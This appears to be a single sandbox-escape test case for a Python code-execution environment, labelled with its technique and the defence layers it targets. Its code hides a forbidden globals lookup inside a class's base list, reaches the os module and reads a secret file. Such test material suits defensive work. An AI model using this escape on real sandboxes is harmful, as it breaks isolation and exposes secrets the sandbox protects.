# class: object graph walk
# technique: a forbidden attribute in the bases of a class statement
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
box = []
class Child(box.append(quit.__init__.__globals__) or Exception):
    pass
g = box[0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
